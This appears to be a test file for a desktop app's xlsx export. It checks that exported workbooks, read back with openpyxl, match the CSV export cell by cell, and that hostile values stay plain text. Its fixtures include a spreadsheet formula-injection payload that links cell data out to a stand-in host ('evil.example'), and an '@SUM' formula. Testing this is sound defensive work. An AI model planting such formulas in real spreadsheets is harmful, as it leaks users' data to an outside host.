/**
 * xlsx export (electron/main/export/xlsx.ts, zip.ts, write.ts) read back with an independent
 * reader, openpyxl (Debian's python3-openpyxl, test/helpers/readXlsx.py): every kind exported from
 * a real cache synced from the sample API over HTTP equals the CSV export of the same request cell
 * by cell, with the cell types the columns name (text, number, boolean, date in the user's zone);
 * the frozen header, the autofilter, the sheet name rules, no formula cell, and the sheets that
 * continue past Excel's row limit.
 */
import { execFileSync } from 'node:child_process';
import { closeSync, mkdtempSync, openSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type Database from 'better-sqlite3';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ALL_EXPORT_KINDS, type AnyExportKind, type ExportRequest } from '../../shared/contract.ts';
import { openCache } from '../../electron/main/cache/store/db.ts';
import { runSync } from '../../electron/main/sync/engine.ts';
import { createHttpPageSource } from '../../electron/main/sync/httpSource.ts';
import { SAMPLE_ACCESS_TOKEN, SAMPLE_REFRESH_TOKEN, startSampleApi, type SampleApi } from '../../electron/main/sampleApi/server.ts';
import { exportColumns } from '../../electron/main/export/columns.ts';
import { workbookHeader } from '../../electron/main/cache/read/exportColumns.ts';
import { runExport } from '../../electron/main/export/run.ts';
import { EXCEL_MAX_ROWS, SHEET_NAME_MAX, XlsxFileWriter, sheetNameOf } from '../../electron/main/export/xlsx.ts';

/** The zone the exports run in, so that "the user's time zone" is not UTC by accident. */
const ZONE = 'America/Chicago';
const READER = join(import.meta.dirname, '..', 'helpers', 'readXlsx.py');

type ReadCell = [value: string | number | boolean | null, type: string, format: string];
interface ReadSheet {
  title: string;
  frozen?: string | null;
  filter?: string | null;
  widths?: Record<string, number>;
  rows: ReadCell[][];
}

/** The workbook as openpyxl reads it. */
function readWorkbook(path: string): ReadSheet[] {
  const out = execFileSync('/usr/bin/python3', [READER, path], { encoding: 'utf8', maxBuffer: 1 << 30 });
  return (JSON.parse(out) as { sheets: ReadSheet[] }).sheets;
}

/** The local wall-clock time of a UTC instant in {@link ZONE}, as openpyxl gives a datetime (computed by Intl, not by the writer's arithmetic). */
function localTime(iso: string): string {
  const parts = Object.fromEntries(
    new Intl.DateTimeFormat('en-CA', { timeZone: ZONE, year: 'numeric', month: '2-digit', day: '2-digit', hour: '2-digit', minute: '2-digit', second: '2-digit', hourCycle: 'h23' })
      .formatToParts(new Date(iso))
      .map((p) => [p.type, p.value]),
  );
  // The serial keeps milliseconds; Python prints them as microseconds, and none when zero.
  const ms = new Date(iso).getUTCMilliseconds();
  return `${parts.year}-${parts.month}-${parts.day}T${parts.hour}:${parts.minute}:${parts.second}${ms ? `.${String(ms).padStart(3, '0')}000` : ''}`;
}

let dir: string;
let db: Database.Database;
let api: SampleApi;
let savedZone: string | undefined;

/** Contacts made hard on purpose: leading zeros, formulas, control characters, escapes, long text. */
const HARD_PATCHES: Record<string, unknown>[] = [
  { zip: '01234', phoneNo: '0044 20 7946 0000', companyName: '=HYPERLINK("http://evil.example/?"&A1,"click")' },
  { firstName: 'Zoë "Zee" <b>&', lastName: 'Ångström\u0001Jr', email: '@SUM(1+1)' },
  { address1: ' 1 Main St\r\nBack door ', address2: 'Unit _x0041_', city: 'Tōkyō; 東京 👍🏽' },
  { fullName: 'x'.repeat(300), zip: '00501-0001', isVerified: null },
];

beforeAll(async () => {
  savedZone = process.env.TZ;
  process.env.TZ = ZONE;
  dir = mkdtempSync(join(tmpdir(), 'ld-xlsx-'));
  api = await startSampleApi({ contacts: 300, orders: 90, seed: 23 });
  const ids = [...api.dataset.contactIds()];
  HARD_PATCHES.forEach((patch, i) => api.dataset.updateContact(ids[i * 5 + 1] as string, patch));
  db = openCache(join(dir, 'cache.sqlite'));
  const runs = await runSync(db, createHttpPageSource({ baseUrl: api.baseUrl, tokens: { accessToken: SAMPLE_ACCESS_TOKEN, refreshToken: SAMPLE_REFRESH_TOKEN } }), {
    resources: ['contacts', 'orders'],
    pageSize: 100,
  });
  expect(runs.every((r) => r.outcome === 'succeeded')).toBe(true);
});

afterAll(async () => {
  db?.close();
  await api?.close();
  rmSync(dir, { recursive: true, force: true });
  if (savedZone === undefined) delete process.env.TZ;
  else process.env.TZ = savedZone;
});

const CSV = { delimiter: 'comma', bom: false, neutralizeFormulas: false } as const;

function request(kind: AnyExportKind, extra: Partial<ExportRequest> = {}): ExportRequest {
  return { kind, query: null, columns: null, options: CSV, ...extra } as ExportRequest;
}

/** The cell a CSV field should become in the workbook, by the column's type. */
function expectedCell(type: string, csv: string): { value: string | number | boolean | null; type: string } {
  if (csv === '') return { value: null, type: 'n' };
  if (type === 'number') return { value: Number(csv), type: 'n' };
  if (type === 'boolean') return { value: csv === 'true', type: 'b' };
  if (type === 'date') {
    if (/^\d{4}-\d{2}-\d{2}$/.test(csv)) return { value: `${csv}T00:00:00`, type: 'd' };
    return { value: localTime(csv), type: 'd' };
  }
  return { value: csv, type: 's' };
}

describe('xlsx export, read back by openpyxl', () => {
  for (const kind of ALL_EXPORT_KINDS) {
    it(`${kind}: the same cells as the CSV export, typed by column`, async () => {
      const csvPath = join(dir, `${kind}.csv`);
      const xlsxPath = join(dir, `${kind}.xlsx`);
      const csvOut = await runExport(db, request(kind), csvPath);
      const xlsxOut = await runExport(db, request(kind, { format: 'xlsx', sheetName: `All ${kind}` }), xlsxPath);
      expect(xlsxOut.rows).toBe(csvOut.rows);
      expect(xlsxOut.rows).toBeGreaterThan(0);
      expect(xlsxOut.sheets).toEqual([`All ${kind}`]);

      const csv = parse(execFileSync('cat', [csvPath], { encoding: 'utf8' }), { record_delimiter: '\r\n' }) as string[][];
      const [sheet, ...others] = readWorkbook(xlsxPath);
      expect(others).toEqual([]);
      expect(sheet!.title).toBe(`All ${kind}`);
      expect(sheet!.frozen).toBe('A2');
      const columns = exportColumns(kind).filter((c) => c.inDefault);
      const lastLetter = String.fromCharCode(64 + columns.length);
      if (columns.length <= 26) expect(sheet!.filter).toBe(`A1:${lastLetter}${csv.length}`);
      expect(sheet!.rows).toHaveLength(csv.length);

      // Header: the CSV's, dates without "(UTC)" (they are local in the workbook), bold text.
      expect(sheet!.rows[0]!.map((c) => c[0])).toEqual(columns.map((c) => workbookHeader(c)));
      let dates = 0;
      for (let r = 1; r < csv.length; r++) {
        const got = sheet!.rows[r]!;
        columns.forEach((column, i) => {
          const want = expectedCell(column.type, csv[r]![i]!);
          const cell = got[i] ?? [null, 'n', 'General'];
          if (want.type === 'd') dates++;
          expect({ row: r, key: column.key, value: cell[0], type: cell[1] }).toEqual({ row: r, key: column.key, value: want.value, type: want.type });
          if (want.type === 's') expect(cell[2]).toBe('@');
          if (want.type === 'd') expect(cell[2]).toMatch(/^yyyy-mm-dd/);
        });
      }
      // Every sheet of records has at least one real date column filled in.
      if (kind === 'contacts' || kind === 'orders') expect(dates).toBeGreaterThan(0);
      // openpyxl calls a formula cell's type "f": there is none, also where the text starts with "=".
      expect(sheet!.rows.flat().filter((c) => c[1] === 'f')).toEqual([]);
    });
  }

  it('keeps leading zeros, formulas as text, control characters and escapes as Excel reads them', async () => {
    const path = join(dir, 'hard.xlsx');
    await runExport(db, request('contacts', { format: 'xlsx', columns: ['zip', 'phoneNo', 'companyName', 'firstName', 'lastName', 'email', 'address1', 'address2', 'city', 'fullName', 'isVerified'] }), path);
    const [sheet] = readWorkbook(path);
    const values = sheet!.rows.slice(1).map((row) => row.map((c) => c[0]));
    const has = (v: unknown): boolean => values.some((row) => row.includes(v as never));
    expect(has('01234')).toBe(true);
    expect(has('00501-0001')).toBe(true);
    expect(has('0044 20 7946 0000')).toBe(true);
    expect(has('=HYPERLINK("http://evil.example/?"&A1,"click")')).toBe(true);
    expect(has('@SUM(1+1)')).toBe(true);
    expect(has('Zoë "Zee" <b>&')).toBe(true);
    expect(has('Ångström\u0001Jr')).toBe(true);
    expect(has(' 1 Main St\r\nBack door ')).toBe(true);
    expect(has('Unit _x0041_')).toBe(true);
    expect(has('Tōkyō; 東京 👍🏽')).toBe(true);
    expect(has('x'.repeat(300))).toBe(true);
    // Widths: sensible, never wider than 60 characters.
    expect(Math.max(...Object.values(sheet!.widths ?? {}))).toBeLessThanOrEqual(60);
    expect(sheet!.widths?.A).toBeGreaterThanOrEqual(8);
  });

  it('exports a filtered view with its sheet name made valid for Excel', async () => {
    const state = db.prepare("SELECT state FROM contacts WHERE state IS NOT NULL AND state <> '' GROUP BY state ORDER BY count(*) DESC LIMIT 1").pluck().get() as string;
    const want = db.prepare('SELECT count(*) FROM contacts WHERE state = ?').pluck().get(state) as number;
    const path = join(dir, 'view.xlsx');
    const out = await runExport(db, request('contacts', { format: 'xlsx', query: { states: [state] }, sheetName: "'Q3: [West]/North?*' and a long tail of words" } as Partial<ExportRequest>), path);
    expect(out.rows).toBe(want);
    const [sheet] = readWorkbook(path);
    expect(sheet!.title).toBe(sheetNameOf("'Q3: [West]/North?*' and a long tail of words"));
    expect(sheet!.title).toBe('Q3- -West--North--\' and a long');
    expect(sheet!.rows).toHaveLength(want + 1);
  });
});

describe('sheet names', () => {
  it('follow Excel: no forbidden characters, 31 characters at most, never empty or History', () => {
    expect(sheetNameOf('Contacts')).toBe('Contacts');
    expect(sheetNameOf('a/b\\c?d*e[f]g:h')).toBe('a-b-c-d-e-f-g-h');
    expect(sheetNameOf('   ')).toBe('Sheet');
    expect(sheetNameOf('History')).toBe('History list');
    expect([...sheetNameOf('👍'.repeat(40))]).toHaveLength(SHEET_NAME_MAX);
    expect(sheetNameOf('y'.repeat(40), ' (2)')).toBe(`${'y'.repeat(27)} (2)`);
  });
});

describe('rows past a sheet', () => {
  /** Writes `rows` numbered rows to a workbook whose sheets hold `perSheet` rows. */
  function writeNumbered(path: string, rows: number, perSheet?: number): string[] {
    const fd = openSync(path, 'w');
    try {
      const writer = new XlsxFileWriter(fd, [{ header: 'N', type: 'number' }, { header: 'Code', type: 'text' }], { sheetName: 'Numbers', ...(perSheet ? { rowsPerSheet: perSheet } : {}) });
      for (let i = 1; i <= rows; i++) writer.writeRow([i, String(i).padStart(6, '0')]);
      return writer.finish().sheets;
    } finally {
      closeSync(fd);
    }
  }

  it('continue on more sheets, each with the header row frozen and filtered', () => {
    const path = join(dir, 'split.xlsx');
    const sheets = writeNumbered(path, 2_500, 1_000);
    expect(sheets).toEqual(['Numbers', 'Numbers (2)', 'Numbers (3)']);
    const read = readWorkbook(path);
    expect(read.map((s) => s.title)).toEqual(sheets);
    expect(read.map((s) => s.rows.length)).toEqual([1_000, 1_000, 503]);
    const numbers: number[] = [];
    for (const sheet of read) {
      expect(sheet.frozen).toBe('A2');
      expect(sheet.filter).toBe(`A1:B${sheet.rows.length}`);
      expect(sheet.rows[0]!.map((c) => c[0])).toEqual(['N', 'Code']);
      for (const row of sheet.rows.slice(1)) {
        numbers.push(row[0]![0] as number);
        expect(row[1]![0]).toBe(String(row[0]![0]).padStart(6, '0'));
      }
    }
    expect(numbers).toEqual(Array.from({ length: 2_500 }, (_, i) => i + 1));
  });

  it(`start a second sheet at Excel's ${EXCEL_MAX_ROWS.toLocaleString('en-US')} rows`, () => {
    const path = join(dir, 'limit.xlsx');
    const rows = EXCEL_MAX_ROWS + 4;
    expect(writeNumbered(path, rows)).toEqual(['Numbers', 'Numbers (2)']);
    const script = `import openpyxl,json,sys
wb=openpyxl.load_workbook(sys.argv[1], read_only=True)
out=[]
for ws in wb.worksheets:
    n=0; first=None; last=None
    for r in ws.iter_rows(values_only=True):
        n+=1
        if n==2: first=r[0]
        last=r[0]
    out.append([ws.title,n,first,last])
print(json.dumps(out))`;
    const read = JSON.parse(execFileSync('/usr/bin/python3', ['-c', script, path], { encoding: 'utf8' })) as [string, number, number, number][];
    expect(read).toEqual([
      ['Numbers', EXCEL_MAX_ROWS, 1, EXCEL_MAX_ROWS - 1],
      ['Numbers (2)', 1 + rows - (EXCEL_MAX_ROWS - 1), EXCEL_MAX_ROWS, rows],
    ]);
  }, 60_000);
});
